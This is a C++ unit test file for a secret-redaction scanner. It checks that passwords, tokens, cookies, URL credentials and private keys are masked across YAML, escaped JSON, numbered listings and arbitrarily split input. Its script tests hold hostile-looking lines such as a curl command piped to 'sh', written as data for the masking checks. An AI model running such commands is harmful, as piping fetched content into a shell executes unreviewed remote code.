  check_everywhere("  secret: |\n    hunter2\n  user: x\n", "  secret: *\n  *********\n  user: x\n");
  check_everywhere("\npassword: |\n  hunter2", "\npassword: *\n*********");
  check_everywhere("  const t = 'a:\\n  password: |\\n    x';\n    foo();\n    bar(y);\n",
                   "  const t = 'a:\\n  password: **n  *****\n    foo();\n    bar(y);\n");
  check_everywhere("{\"a\":\"t = 'a:\\\\n  password: |\\\\n    x';\\n    foo();\\r\\n    bar(y);\"}",
                   "{\"a\":\"t = 'a:\\\\n  password: ***n  ******n    foo();\\r\\n    bar(y);\"}");
  for (const std::string harmless :
       {"  password:\n  user: x\n", "  password:\n\n    user: x\n", "  password:\n user: x\n",
        "  token:\n    short\n  a: b\n", "  password =\n    user: x\n", "\"a\\n  password:\\n  user: x\"",
        "\"a\\n  password:\\n\\n    user: x\"", "\"a\\n  password =\\n    user: x\"", "\"a\\npassword:\\nuser: x\"",
        "the password: | a\n  b\n"})
    check_everywhere(harmless, harmless);
  const std::string script = "cat <<E\n  password: |\n    sh\nE";
  CHECK(without_secrets(script, SecretText::script).ends_with("\n    sh\nE"));
}

TEST_CASE("secrets: so they are in a string of JSON, at any depth, up to that string's end") {
  for (const std::string slashes : {"\\", "\\\\", "\\\\\\\\"}) {
    const std::string n = slashes + "n", quote = slashes.substr(1), inner = slashes + quote + "\"";
    const std::string begin = "{\"a\":" + quote + "\"spec:" + n, end = quote + "\",\"b\":\"c\"}";
    const auto hides = [&](const std::string& text, const std::string& after) {
      for (std::size_t cut = 0; cut <= text.size(); ++cut) {
        const std::string shown = shown_of({text.substr(0, cut), text.substr(cut)});
        INFO(shown);
        CHECK(shown.find("nter") == std::string::npos);
        CHECK(shown.find("more") == std::string::npos);
        CHECK(shown.ends_with(after));
        CHECK(shown == shown_of({text}));
      }
    };
    const std::string own = slashes + slashes;  // a backslash of the text's own
    hides("{\"a\":" + quote + "\"C:" + own + "data" + own + n + "  password: |" + n + "    hunter2" + n + "  user: x" +
              end,
          "n  user: x" + end);
    for (const std::string value : {"|", ">2-", ""})
      for (const std::string& line_end : {n, slashes + "r" + n}) {
        const std::string lines =
            "  password: " + value + line_end + "    hunter2" + inner + " a" + line_end + "    more";
        hides(begin + lines + line_end + "  user: x" + end, "  user: x" + end);
        hides(begin + lines + end, "\",\"b\":\"c\"}");
        hides(begin + lines + slashes + slashes + end, "\",\"b\":\"c\"}");
      }
    hides("{\"a\":" + quote + "\"password: |" + n + "  hunter2" + n + n + "  more" + n + "user: x" + end,
          "nuser: x" + end);
    hides("{\"a\":" + quote + "\"  password: |" + n + "    hunter2" + n + "  user: x" + end, "n  user: x" + end);
    hides(begin + slashes + "tpassword: |" + n + slashes + "t" + slashes + "thunter2" + n + "user: x" + end,
          "nuser: x" + end);
    hides(begin + "  secret: |" + n + "    hunter2" + n + "  user: x" + end, "n  user: x" + end);
  }
}

TEST_CASE("secrets: so they are in a listing, behind the numbers of its lines") {
  for (const std::string mark : {"\u2192", "\t"})
    check_everywhere(
        "     8" + mark + "a:\n     9" + mark + "  password: |\n    10" + mark + "    hunter2\n    11" + mark +
            "\n    12" + mark + "   more\n    13" + mark + "  user: x\n\xE2\x80\x93 12\xE2\x86\x91\n",
        "     8" + mark + "a:\n     9" + mark + "  password: *\n    10" + mark + "  *********\n    11" + mark +
            "\n    12" + mark + "  *****\n    13" + mark + "  user: x\n\xE2\x80\x93 12\xE2\x86\x91\n");
  for (const std::string mark : {"\u2192", "\\u2192", "\\t"}) {
    const std::string begin = "{\"a\":\"     8" + mark + "a:\\n     9" + mark;
    check_everywhere(begin + "password: |\\n    10" + mark + "  hunter2\\n    11" + mark + "user: x\\n\",\"b\":1}",
                     begin + "password: **n    10" + mark + "**********n    11" + mark + "user: x\\n\",\"b\":1}");
    check_everywhere(begin + "password: |\\n    10" + mark + "  hunter2\\n<end>\\n\",\"b\":1}",
                     begin + "password: **n    10" + mark + "**********n<end>\\n\",\"b\":1}");
    check_everywhere(begin + "password:\\n    10" + mark + "user: x\\n",
                     begin + "password:\\n    10" + mark + "user: x\\n");
  }
  for (const std::string after : {"\xE2\x80\x93 x\n", "\xE2\x86\x91 x\n", "12\xE2\x80\xA6\n"})
    check_everywhere("1\tpassword: |\n2\t  hunter2\n" + after, "1\tpassword: *\n2\t*********\n" + after);
}

TEST_CASE("secrets: bytes missed in such lines do not end them where their text is seen") {
  for (const std::string before :
       {"a:\n  password: |\n    hun", "\"a:\\n  password: |\\n    hun", "a:\n  password: |\n"}) {
    SecretScanner scanner;
    (void)scanner.take(before);
    CHECK(scanner.held() == 0);
    (void)scanner.miss(2);
    CHECK(scanner.take("hunter2\n    hunter2!\n; on").bytes.find("nter") == std::string::npos);
  }
}

TEST_CASE("secrets: in JSON a tab may stand between a name and its value") {
  for (const std::string before : {"x = 1\\n", "", "say ", "DB_", "a DB_", "\\t"})
    for (const std::string between : {"\\t= ", "\\t=\\t", " \\t=", "\\t\\t = \\t"})
      check_everywhere("{\"a\":\"" + before + "password" + between + "hunter2xyz\"}",
                       "{\"a\":\"" + before + "password" + between + "**********\"}");
  check_everywhere("{\"x\":\"password\\t: a, b\"}", "{\"x\":\"password\\t: ****\"}");
  check_everywhere("{\"x\":\"Authorization\\t: Basic abc\"}", "{\"x\":\"Authorization\\t: *********\"}");
  check_everywhere("{\"x\":\"the password\\tis: abc\"}", "{\"x\":\"the password\\tis: abc\"}");
}

TEST_CASE("secrets: behind a name what looks like an escaped tab may be another name's beginning") {
  check_everywhere("C:\\secret\\token=AbCdEf0123456789XYZ on", "C:\\secret\\token=******************* on");
  check_everywhere("the password\\token=AbCdEf0123456789XYZ on", "the password\\token=******************* on");
}

TEST_CASE("secrets: bytes missed at the end of a value's line do not end it") {
  SecretScanner scanner;
  (void)scanner.take("\r\nCookie: a=b;\r\n");
  (void)scanner.miss(5);
  CHECK(scanner.take("c=d; e\r\n--").bytes == "********--");
  SecretScanner word;
  (void)word.take("?password=abc");
  (void)word.miss(5);
  CHECK(word.take("d e&f\nMIIB\n--").bytes == "***********--");
}

TEST_CASE("secrets: an escape before a key, of JSON or of a URL, is no part of its word") {
  const std::string key = letters(36), stars(36, '*');
  const std::string bot = "123456789:AA", rest = letters(33), jwt = letters(20) + "." + letters(20);
  for (const std::string escape :
       {"\\n", "\\r", "\\t", "\\b", "\\f", "\\\\n", "\\\\\\n", "\\u0020", "\\\\u003d", "%20", "%3D", "%3a", "%22",
        "%0A", "\\x20", "\x1B[32m", "\x1B[m", "\\u001b[1;31m", "\\033[0m"}) {
    INFO(escape);
    check_everywhere("{\"content\":\"my .env:" + escape + "ghp_" + key + "\"}",
                     "{\"content\":\"my .env:" + escape + "ghp_" + stars + "\"}");
    check_everywhere("GET /10?q=" + escape + bot + rest + " on",
                     "GET /10?q=" + escape + bot + std::string(33, '*') + " on");
    check_everywhere("a" + escape + "eyJ" + jwt + " on", "a" + escape + "eyJ" + std::string(41, '*') + " on");
  }
  for (const std::string& text : {"anghp_" + key, "u0020ghp_" + key, "20ghp_" + key, "\\xghp_" + key, "\\u20ghp_" + key,
                                  "%2ghp_" + key, "%n0ghp_" + key, "12345678901:AA" + rest})
    CHECK(shown_of({text + " "}) == text + " ");
}

TEST_CASE("secrets: what is held is taken for a secret when it must be told") {
  SecretScanner scanner;
  CHECK(scanner.take("key ghp_abc").bytes == "key ghp_");
  CHECK(scanner.flush().bytes == "***");
  CHECK(scanner.take("def done").bytes == "*** done");
  SecretScanner address;
  CHECK(address.take("see https://example").bytes == "see https://");
  CHECK(address.flush().bytes == "*******");
  CHECK(address.take(".com/ path").bytes == "****/ path");
  SecretScanner port;
  CHECK(port.take("https://me:pass").bytes == "https://");
  CHECK(port.flush().bytes == "me:****");
}

TEST_CASE("secrets: what is told before it is decided gives nothing away of what comes behind it") {
  const auto told = [](const std::string& text, std::size_t cut) {
    SecretScanner scanner;
    std::string shown = scanner.take(text.substr(0, cut)).bytes;
    shown += scanner.flush().bytes;
    shown += scanner.take(text.substr(cut)).bytes;
    return shown + scanner.flush().bytes;
  };
  const std::string secret = letters(40, "0123456789abcdef");
  for (const std::string before : {"key sk-ant-api03-", "key sk-proj-", "key sk-svcacct-", "key sk-or-v1-",
                                   "see https://me:", "see https://me@corp.com:", "see https://"})
    for (const std::string after : {" on", "\" on"}) {
      const bool is_address = before.starts_with("see");
      const std::string text = before + secret + (is_address ? "@example.com/" : "") + after;
      for (std::size_t cut = 0; cut <= text.size(); ++cut) {
        INFO("cut at " << cut << ": " << told(text, cut));
        CHECK(told(text, cut).find(secret.substr(0, 8)) == std::string::npos);
        CHECK(told(text, cut).find(secret.substr(32)) == std::string::npos);
        CHECK(told(text, cut).ends_with(after));
      }
    }
  CHECK(told("a sk-abc-def on", 8) == "a sk-***-def on");
  CHECK(without_secrets("see https://example", SecretText::script) == "see https://example");
}

TEST_CASE("secrets: in a script only the word is replaced, so that what a shell would run stays to be seen") {
  const auto script = [](std::string_view text) { return without_secrets(text, SecretText::script); };
  CHECK(script("cookie: x|sh") == "cookie: *|sh");
  CHECK(script("cat <<E\npassword: abc def\nE") == "cat <<E\npassword: *** def\nE");
  CHECK(script("curl -H 'Authorization: Bearer abc' https://a/i | sh") ==
        "curl -H 'Authorization: **********' https://a/i | sh");
  CHECK(script("echo 'password=\\' | sh") == "echo 'password=\\' | sh");
  CHECK(script("PASSWORD=abc;sh") == "PASSWORD=***;sh");
}

TEST_CASE("secrets: any text cut anywhere is shown as it is whole, also behind bytes that were missed") {
  std::mt19937 random(13);
  const std::string_view kParts[] = {"password",
                                     "\"",
                                     "\"",
                                     ":",
                                     ": ",
                                     "=",
                                     "\n",
                                     "\r\n",
                                     "  ",
                                     "\\n",
                                     "\\t",
                                     "\\",
                                     "cookie",
                                     "[",
                                     "]",
                                     ",",
                                     "abc",
                                     "name=\"",
                                     "sk-",
                                     "ant-",
                                     "://",
                                     "@",
                                     "%20",
                                     "%3D",
                                     "ghp_",
                                     "eyJ",
                                     "token",
                                     "Authorization",
                                     "Basic ",
                                     ";",
                                     "C",
                                     "abcdefghijklmnopqrstuvwxyz0123456789ABCD",
                                     "            ",
                                     "'",
                                     "''",
                                     "\"\"\"",
                                     "'\"'\"'",
                                     "%",
                                     "%22",
                                     "%3a%2F%2f",
                                     "%3F",
                                     "PRIVATE_KEY=\"",
                                     "-----END RSA PRIVATE KEY-----",
                                     "%40",
                                     "+",
                                     "[0]",
                                     "|",
                                     "\n\n",
                                     "-----BEGIN RSA PRIVATE KEY-----",
                                     "-----",
                                     "# ",
                                     "MIIEpAIBAAKCAQEAwJ8nq2Yk",
                                     "\xFF",
                                     "HTTP/1.",
                                     "'\\''",
                                     "\\ ",
                                     "b'",
                                     "`",
                                     "{\"",
                                     "\n    12\u2192",
                                     "\\n    12\\u2192",
                                     "\n  password: |\n    ",
                                     "\\n  password:\\n    "};
  const auto shown = [](const std::vector<std::string>& pieces, const std::string& gap) {
    SecretScanner scanner;
    std::string all;
    for (const std::string& piece : pieces) all += piece == gap ? scanner.miss(7).bytes : scanner.take(piece).bytes;
    return all + scanner.flush().bytes;
  };
  for (int round = 0; round < 4000; ++round) {
    const std::string gap = "~";
    std::vector<std::string> whole(1), pieces;
    for (std::size_t size = 0; size < 300;) {
      const std::string part(kParts[random() % std::size(kParts)]);
      const bool has_gap = random() % 40 == 0 && round % 2 == 0;
      if (has_gap) whole.insert(whole.end(), {gap, ""});
      whole.back() += part;
      size += part.size();
    }
    for (const std::string& text : whole)
      for (std::size_t at = 0; at < text.size(); at += pieces.back().size())
        pieces.push_back(text.substr(at, 1 + random() % 30));
    REQUIRE(shown(pieces, gap) == shown(whole, gap));
  }
}

TEST_CASE("secrets: any bytes cut anywhere give as many bytes") {
  std::mt19937 random(11);
  const std::string_view kParts[] = {"sk-ant-", "eyJ",  "://", "password", "\"", ":", "\n",
                                     "cookie",  "ghp_", "a",   "\xFF",     "\\", "@", "-----BEGIN PRIVATE KEY-----",
                                     "HTTP/1."};
  const auto is_byte_or_star = [](char was, char is) { return is == was || is == '*'; };
  for (int round = 0; round < 300; ++round) {
    std::string text;
    while (text.size() < 400) text += kParts[random() % std::size(kParts)];
    std::vector<std::string> pieces;
    for (std::size_t at = 0; at < text.size();) {
      pieces.push_back(text.substr(at, random() % 40));
      at += pieces.back().size();
    }
    const std::string shown = shown_of(pieces);
    INFO(text << " -> " << shown);
    REQUIRE(std::equal(text.begin(), text.end(), shown.begin(), shown.end(), is_byte_or_star));
  }
}
